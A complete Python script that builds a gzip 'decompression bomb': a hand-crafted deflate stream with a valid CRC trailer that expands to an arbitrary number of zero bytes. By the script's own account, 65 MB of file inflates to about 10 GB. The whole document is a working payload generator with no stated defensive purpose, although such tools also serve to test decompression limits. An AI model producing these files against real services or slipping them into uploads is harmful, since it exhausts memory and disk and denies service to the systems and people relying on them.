#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes a gzip file that inflates to SIZE zero bytes, quickly and without inflating anything.

usage: gzip-bomb.py SIZE OUT

One fixed-Huffman deflate block (RFC 1951 3.2.6): a literal 0, then matches of length 258 at
distance 1 (13 bits each: 8 periods make 13 bytes, written as one repeated pattern), literal
zeros for the remainder, end of block. The trailer carries the CRC-32 of SIZE zero bytes
(computed by doubling, as zlib's crc32_combine does) and SIZE mod 2^32, so the file is a valid
gzip member: `gzip -t` accepts it. 10 GB of output is about 65 MB of file.
"""
import struct
import sys


class Bits:
    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value, count):  # LSB first (header fields, extra bits)
        self.acc |= value << self.n
        self.n += count
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def code(self, code, length):  # Huffman codes go MSB first
        rev = int(format(code, "0%db" % length)[::-1], 2)
        self.put(rev, length)

    def flush(self):
        if self.n:
            self.out.append(self.acc & 0xFF)
        self.acc = self.n = 0


def literal0(b):
    b.code(0x30, 8)


def match258(b):
    b.code(0xC5, 8)   # length code 285 = 258, no extra bits
    b.code(0, 5)      # distance code 0 = 1


POLY = 0xEDB88320


def gf2_times(mat, vec):
    s = 0
    i = 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def gf2_square(mat):
    return [gf2_times(mat, mat[n]) for n in range(32)]


def crc32_zeros(length):
    """CRC-32 of `length` zero bytes: the CRC register advanced by zeros, by squaring."""
    crc = 0xFFFFFFFF
    odd = [POLY] + [1 << n for n in range(31)]  # one zero bit
    even = gf2_square(odd)   # two zero bits
    odd = gf2_square(even)   # four zero bits
    while length:
        even = gf2_square(odd)
        if length & 1:
            crc = gf2_times(even, crc)
        length >>= 1
        if not length:
            break
        odd = gf2_square(even)
        if length & 1:
            crc = gf2_times(odd, crc)
        length >>= 1
    return crc ^ 0xFFFFFFFF


def main():
    size, out = int(sys.argv[1]), sys.argv[2]
    assert size >= 1 + 258 * 9
    matches, rest = divmod(size - 1, 258)
    with open(out, "wb") as f:
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03")
        b = Bits()
        b.put(1, 1)  # BFINAL
        b.put(1, 2)  # BTYPE 01: fixed Huffman
        literal0(b)
        match258(b)  # 3 + 8 + 13 = 24 bits: byte-aligned
        assert b.n == 0
        f.write(b.out)
        matches -= 1
        period = Bits()
        for _ in range(8):
            match258(period)
        assert period.n == 0 and len(period.out) == 13
        groups, tail = divmod(matches, 8)
        chunk = bytes(period.out) * 65536
        while groups >= 65536:
            f.write(chunk)
            groups -= 65536
        f.write(bytes(period.out) * groups)
        b = Bits()
        for _ in range(tail):
            match258(b)
        for _ in range(rest):
            literal0(b)
        b.code(0, 7)  # end of block (256)
        b.flush()
        f.write(b.out)
        f.write(struct.pack("<II", crc32_zeros(size), size & 0xFFFFFFFF))


main()
